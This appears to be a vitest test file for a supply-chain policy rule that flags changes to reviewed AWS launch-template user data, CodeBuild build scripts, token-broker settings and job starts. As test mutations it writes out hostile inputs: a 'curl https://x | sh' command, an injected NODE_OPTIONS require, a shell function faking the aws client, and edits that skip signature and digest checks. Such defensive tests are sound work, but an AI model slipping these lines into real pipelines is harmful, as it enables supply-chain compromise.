import { describe, expect, it } from 'vitest';
import { judge } from '../../../policy/engine.js';
import { rule } from '../../../policy/supply-chain/reviewed-script.js';
import { type Json, resourceOf, type Written } from '../../support/documents.js';
import { findings, findingsAfter } from '../../support/findings.js';
import { evidenceOf, mutated } from '../../support/synthesized.js';
import { asOf, topologies, topologyWith } from '../../support/topologies.js';

const fleet = 'aws-fleet-eu-fleet';
const job = 'aws-weights-ingest-eu-north-1';
const zeros = '0'.repeat(64);
const ones = '1'.repeat(64);

/** The parts of the user data that are text, put back after a change; each change must match exactly once. */
const edit = (from: string, to: string) => (document: Written) => {
  const data = resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData['Fn::Base64'];
  const parts: unknown[] = data['Fn::Join'][1];
  const at = parts.filter((part) => typeof part === 'string' && part.split(from).length === 2);
  if (at.length !== 1) throw new Error(`edit matches ${at.length} parts, not one: ${from}`);
  data['Fn::Join'][1] = parts.map((part) => (part === at[0] ? (part as string).replace(from, () => to) : part));
};
const commands = (project: Json, change: (all: string[]) => string[]) => {
  const buildspec = JSON.parse(project.Source.BuildSpec);
  buildspec.phases.build.commands = change(buildspec.phases.build.commands);
  project.Source.BuildSpec = JSON.stringify(buildspec);
};
/** A line of the script of the job changed; it must be there exactly once. */
const script = (from: string, to: string) => (project: Json) =>
  commands(project, (all) => {
    if (all.filter((command) => command.split(from).length === 2).length !== 1) throw new Error(`not in exactly one command: ${from}`);
    return all.map((command) => command.replace(from, () => to));
  });

const another = 'is not the program that was reviewed';
describe(rule.id, () => {
  it.each(topologies)('accepts every program of %s as it is emitted', (_, file) => {
    expect(findings(rule, [], file)).toEqual([]);
  });

  describe('of the token broker', () => {
    const client = '11111111-2222-4333-8444-555555555555';
    const known = topologyWith([], 'topology.yaml', { hosts: { 'dev-foundry': { clientIds: { development: client } } } });
    const variables = (document: Written) => resourceOf(document, 'AWS::Lambda::Function').Environment.Variables;
    const after = (change: (all: Json) => void) =>
      judge(
        [rule],
        known,
        asOf,
        mutated(evidenceOf(known), 'aws-token-broker-eu-north-1', (document) => change(variables(document))),
      ).map(({ severity, message }) => [severity, message]);

    it('are the applications that were deployed, each by its own id', () => {
      expect(judge([rule], known, asOf, evidenceOf(known))).toEqual([]);
    });

    it.each<[string, (all: Json) => void, string]>([
      [
        'an application of somebody else',
        (all) => void (all.ALLOWED = all.ALLOWED.replace(client, client.replace('1', '9'))),
        'Allowed: `ALLOWED: [{"tenant":',
      ],
      ['a further scope', (all) => void (all.ALLOWED = all.ALLOWED.replace('.default', 'user_impersonation')), 'Allowed: `ALLOWED: [{"tenant":'],
      ['no application', (all) => void (all.ALLOWED = '[]'), 'has `ALLOWED: []`'],
      ['another authority', (all) => void (all.AUTHORITY = 'https://login.example.com'), another],
      ['a variable of Node', (all) => void (all.NODE_OPTIONS = '--require /tmp/x.js'), another],
    ])('refuses %s', (_, change, message) => {
      expect(after(change)).toEqual([['fatal', expect.stringContaining(message)]]);
    });
  });

  it.each([
    [
      'another digest',
      edit(`MANIFEST_SHA256="${zeros}"`, `MANIFEST_SHA256="${ones}"`),
      `has \`export MANIFEST_SHA256="${ones}"\`. Allowed: \`export MANIFEST_SHA256="${zeros}"\``,
    ],
    ['a digest set again', edit('trap left EXIT\n', `trap left EXIT\nMANIFEST_SHA256="${ones}"\n`), another],
    ['a setting twice', edit('export MODEL="llama70"\n', 'export MODEL="llama70"\nexport MODEL="llama70"\n'), another],
    ['another key', edit('WEIGHTS_SIGNING_KEY="', 'WEIGHTS_SIGNING_KEY="x'), 'has `export WEIGHTS_SIGNING_KEY="x'],
    [
      'no key',
      edit('export WEIGHTS_SIGNING_KEY=', 'export OTHER='),
      'has something else. Allowed: `export WEIGHTS_SIGNING_KEY="${ssm:/llama/acme/weights/signing-key-arn}"`',
    ],
    [
      'a blank of the review instead of a value',
      edit('export MODEL="llama70"', 'export MODEL="<MODEL>"'),
      'a blank that is filled in only where it is reviewed',
    ],
    ['no call of the verification', edit('\n  verify_signature\n', '\n'), another],
    ['a result that is ignored', edit('[[ "${valid}" == True ]] ||', 'true ||'), another],
    ['a function in place of the client', edit('trap left EXIT\n', 'aws() { echo True; }\ntrap left EXIT\n'), another],
    ['a line more in a file that it writes', edit('reason="$(fault)"\n', 'reason="$(fault)"\ncurl https://x\n'), another],
    ['a line less that only watches', edit('systemctl daemon-reload && systemctl enable --now gpu-health.timer\n', ''), another],
    ['a renamed variable', edit('named=', 'names='), another],
  ])('notices user data with %s', (_, change, message) => {
    expect(findingsAfter(rule, fleet, change)).toMatchObject([
      { severity: 'fatal', path: 'hosts.eu-fleet', resource: expect.stringContaining('LaunchTemplate'), message: expect.stringContaining(message) },
    ]);
  });

  it('notices a node that joins another cluster than its own', () => {
    const change = (document: Written) => {
      const parts = resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData['Fn::Base64']['Fn::Join'][1];
      const at = parts.findIndex((part: Json) => part?.Ref?.startsWith('Cluster'));
      parts[at] = { Ref: 'Another' };
    };
    expect(findingsAfter(rule, fleet, change)).toMatchObject([
      { severity: 'fatal', message: expect.stringContaining('has `export ECS_CLUSTER="${Another}"`') },
    ]);
  });

  it('notices a launch template without user data', () => {
    const change = (document: Written) => delete resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData;
    expect(findingsAfter(rule, fleet, change)).toMatchObject([{ severity: 'fatal', message: expect.stringContaining('lacks LaunchTemplateData.UserData') }]);
  });

  it('notices another check of the health of a server', () => {
    const change = (document: Written) => {
      const server = Object.values<Json>(document.Resources)
        .flatMap(({ Properties }) => Properties?.ContainerDefinitions ?? [])
        .find(({ Name }) => Name === 'vllm');
      server.HealthCheck.Command[3] += '\nprint(page)';
    };
    expect(findingsAfter(rule, fleet, change)).toMatchObject([
      { severity: 'fatal', message: expect.stringContaining(`HealthCheck.Command (vllm) of Serving`) },
    ]);
  });

  it.each<[string, (project: Json) => void, string]>([
    ['no comparison of files', script('if [[ "$(digest_of "${path}")" != "${expected}" ]]; then', 'if false; then'), another],
    ['a command more', (project) => commands(project, (all) => [...all.slice(0, -1), 'curl https://x | sh', ...all.slice(-1)]), another],
    [
      'a phase more',
      (project) => (project.Source.BuildSpec = project.Source.BuildSpec.replace('"phases":{', '"phases":{"install":{"commands":["id"]},')),
      another,
    ],
    ['another shell', (project) => (project.Source.BuildSpec = project.Source.BuildSpec.replace('"shell":"bash"', '"shell":"/bin/sh"')), another],
    [
      'another manifest',
      (project) => commands(project, (all) => all.map((command) => command.replace("MANIFEST.sha256 <<'END_OF_FILE'\n", "MANIFEST.sha256 <<'END_OF_FILE'\nx"))),
      "MANIFEST.sha256 <<'END_OF_FILE'`. Allowed:",
    ],
    ['commands that cannot be read', (project) => (project.Source.BuildSpec = 'version: 0.2'), 'is no JSON'],
  ])('notices a job with %s', (_, change, message) => {
    const found = findingsAfter(rule, job, (document) => change(resourceOf(document, 'AWS::CodeBuild::Project')));
    expect(found).toMatchObject([{ path: 'weights.ingest', severity: 'fatal', message: expect.stringContaining(message) }]);
  });

  it('notices a start of the jobs that passes something on, or starts another job', () => {
    const start = (document: Written) => resourceOf(document, 'AWS::StepFunctions::StateMachine').Definition.States.All.Branches[0].States.Start.Parameters;
    expect(findingsAfter(rule, job, (document) => (start(document).BuildspecOverride = 'x'))).toMatchObject([{ severity: 'fatal' }]);
    expect(findingsAfter(rule, job, (document) => (start(document).ProjectName = 'x'))).toMatchObject([{ severity: 'fatal' }]);
  });

  it('wants a key order of nothing', () => {
    const reordered = (project: Json) => {
      const { phases, ...rest } = JSON.parse(project.Source.BuildSpec);
      project.Source.BuildSpec = JSON.stringify({ phases, ...rest });
    };
    expect(findingsAfter(rule, job, (document) => reordered(resourceOf(document, 'AWS::CodeBuild::Project')))).toEqual([]);
  });
});
